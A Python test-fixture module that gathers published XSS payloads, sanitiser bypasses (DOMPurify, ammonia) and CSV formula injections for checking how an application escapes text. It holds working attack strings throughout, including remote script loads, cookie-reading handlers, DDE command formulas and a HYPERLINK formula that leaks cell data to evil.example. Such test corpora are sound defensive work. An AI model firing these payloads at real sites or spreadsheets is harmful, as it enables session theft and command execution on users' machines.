"""Published XSS and formula-injection payloads, pushed through every place text reaches HTML.

Picked (and only lightly trimmed) from public cheat sheets, so that an outside reviewer running
the same lists finds nothing new:

* OWASP Cheat Sheet Series, "XSS Filter Evasion Cheat Sheet"
  (github.com/OWASP/CheatSheetSeries, cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md), itself
  RSnake's list; also PayloadsAllTheThings "XSS Injection/Intruders/RSNAKE_XSS.txt".
* PayloadsAllTheThings (github.com/swisskyrepo/PayloadsAllTheThings): "XSS Injection/README.md"
  (HTML5 vectors, javascript:/data: wrappers, XSS in Markdown, SVG),
  "XSS Injection/1 - XSS Filter Bypass.md", "XSS Injection/2 - XSS Polyglot.md".
* PortSwigger "Cross-site scripting (XSS) cheat sheet" (portswigger.net/web-security/
  cross-site-scripting/cheat-sheet): event handlers that need no interaction (popover
  ``onbeforetoggle``, ``onanimationstart``, ``onfocus autofocus`` …), as reproduced in
  PayloadsAllTheThings "XSS Injection/Intruders/port_swigger_xss_cheatsheet_event_handlers.txt".
* Sanitiser bypasses published as advisories: DOMPurify issue #482 (mXSS through
  form/math/mglyph/style namespace confusion) and ammonia's SVG ``<set>``/``<animate>``
  ``href`` advisory GHSA-m6mh-2hw2-555x (nh3 wraps ammonia).
* CSV/formula injection: PayloadsAllTheThings "CSV Injection/README.md" and OWASP
  "CSV Injection" (cells starting with = + - @ tab CR).

Each entry is one line (no newline inside) so it can be dropped into a Markdown paragraph, a
GIFT answer, a YAML string or a form field alike. Control characters are written as escapes.
"""

from __future__ import annotations

import re

XSS_PAYLOADS: list[str] = [
    # --- OWASP XSS Filter Evasion Cheat Sheet (RSnake) ---
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    '<IMG SRC=java\x00script:alert("XSS")>',
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</script><script>alert('XSS');</script>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<IMG SRC="livescript:[code]">',
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "¼script¾alert(¢XSS¢)¼/script¾",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" '
    'CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063"
    "\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053"
    "\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIiBvbmxvYWQ9ImFsZXJ0KDEpIi8+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'
    '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
    '<?import namespace="t" implementation="#default#time2">'
    '<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>',
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://xss.rocks/"
    "xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    # --- PayloadsAllTheThings: HTML5 vectors, wrappers, Markdown, SVG ---
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video/poster/onerror=alert(1)>",
    '<video><source onerror="javascript:alert(1)">',
    "<audio src onloadstart=alert(1)>",
    '<details/open/ontoggle="alert`1`">',
    "<marquee onstart=alert(1)>",
    "<meter value=2 min=0 max=10 onmouseover=alert(1)>2 out of 10</meter>",
    '<input type="hidden" accesskey="X" onclick="alert(1)">',
    '#"><img src=/ onerror=alert(2)>',
    "<img src='1' onerror='alert(0)' <",
    "<img src='1' onerror\x0b=alert(0) />",
    "<img src='1' onerror/=alert(0) />",
    "<img/src='1'/onerror=alert(0)>",
    "<svg\x0conload\x0c=\x0calert(1)\x0c>",
    "<svg onload=alert(1)//",
    '"><svg/onload=confirm(1)>"@x.y',
    "xss@example.com(<img src='x' onerror='alert(document.location)'>)",
    "+330011223344;phone-context=<script>alert(0)</script>",
    "<script>alert&DiacriticalGrave;1&DiacriticalGrave;</script>",
    "<object onafterscriptexecute=confirm(0)>",
    "＜script/src=//evil.site/poc.js＞",
    "<ſvg onload=alert(1)>",
    "+ADw-img src=+ACI-1+ACI- onerror=+ACI-alert(1)+ACI- /+AD4-",
    "javascript:prompt(1)",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#99&#111&#110&#102&#105&#114&#109&#40"
    "&#49&#41",
    "data:text/html,<script>alert(0)</script>",
    '<script src="data:;base64,YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=="></script>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><foreignObject><![CDATA[</foreignObject><script>alert(2)</script>]]></svg>",
    "<svg><title><![CDATA[</title><script>alert(3)</script>]]></svg>",
    "[a](javascript:prompt(document.cookie))",
    "[a](j a v a s c r i p t:prompt(document.cookie))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)",
    "[a](javascript:window.onerror=alert;throw%201)",
    "![a](javascript:alert(1))",
    "[a][x]  [x]: javascript:alert(1)",
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    '<a href="&#x6A;avascript:alert(1)">hex entity</a>',
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<a href="\x01javascript:alert(1)">leading control</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<form><button formaction="javascript:alert(1)">X</button></form>',
    '<form action="javascript:alert(1)"><input type=submit>',
    '<isindex formaction="javascript:alert(1)" type=submit>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>Click</maction></math>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<img src="x" style="background:url(javascript:alert(1))">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<plaintext/onmouseover=prompt(1)>",
    # --- PayloadsAllTheThings polyglots ---
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0D%0A//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    '">><marquee><img src=x onerror=confirm(1)></marquee>" ></plaintext\\></|\\>'
    "<plaintext/onmouseover=prompt(1) ><script>prompt(1)</script>@gmail.com<isindex "
    'formaction=javascript:alert(/XSS/) type=submit>\'-->" ></script><script>alert(1)</script>">'
    '<img/id="confirm&lpar; 1)"/alt="/"src="/"onerror=eval(id&%23x29;>\'">',
    '" onclick=alert(1)//<button ‘ onclick=alert(1)//> */ alert(1)//',
    "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";"
    "alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode"
    "(88,83,83))</SCRIPT>",
    '-->\'"/></sCript><svG x=">" onload=(co\\u006efirm)``>',
    "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
    '<html \\" onmouseover=/*&lt;svg/*/onload=alert()//>',
    "JavaScript://%250Aalert?.(1)//'/*\\'/*\"/*\\\"/*`/*\\`/*%26apos;)/*<!--></Title/</Style/"
    "</Script/</textArea/</iFrame/</noScript>\\74k<K/contentEditable/autoFocus/OnFocus="
    "/*${/*/;{/**/(alert)(1)}//><Base/Href=//X55.is\\76-->",
    # --- PortSwigger cheat sheet: events firing without interaction ---
    "<button popovertarget=x>Click me</button><xss onbeforetoggle=alert(1) popover id=x>XSS</xss>",
    "<xss onanimationstart=alert(1) style=animation-name:x></xss>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<xss contenteditable onbeforeinput=alert(1)>test",
    "<body onpageshow=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">test</a>',
    "<dialog open onclose=alert(1)><form method=dialog><button>XSS</button></form>",
    '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)">',
    "<a id=x tabindex=1 onfocusin=alert(1)></a>",
    "<td style=\"text-align:center;background:url('javascript:alert(1)')\" onmouseover=alert(1)>",
    # --- Published sanitiser bypasses (DOMPurify #482, ammonia GHSA-m6mh-2hw2-555x) ---
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=alert(1) src>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" '
    'to="javascript:alert(\'SET_XSS\')"></set><text y="30">Click set</text></a></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
]

# Cells a spreadsheet reads as formulas (DDE, HYPERLINK, IMPORTXML) when text starts with them.
FORMULA_PAYLOADS: list[str] = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")',
    '=IMPORTXML("http://burp.collaborator.net/csv", "//a/@href")',
    "\t=1+1",
    "\r=1+1",
    "=    C    m D          |        '/        c       c  al  c      .  e      x  e  '   !   A",
]

PAYLOADS: list[str] = XSS_PAYLOADS + FORMULA_PAYLOADS

_NOT_IN_FILES = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def for_files(payload: str) -> str:
    """The payload as it can stand in a UTF-8 text file read by YAML: C0 controls dropped
    (YAML refuses them; Markdown and GIFT files keep tab)."""
    return _NOT_IN_FILES.sub("", payload).replace("\r", "")


def chunks(limit: int, payloads: list[str] | None = None) -> list[str]:
    """Payloads packed into strings of at most ``limit`` characters (for short text columns);
    a longer payload is cut to the limit."""
    out: list[str] = []
    current = ""
    for payload in payloads if payloads is not None else PAYLOADS:
        payload = payload[:limit]
        if current and len(current) + 1 + len(payload) > limit:
            out.append(current)
            current = ""
        current = f"{current} {payload}" if current else payload
    if current:
        out.append(current)
    return out
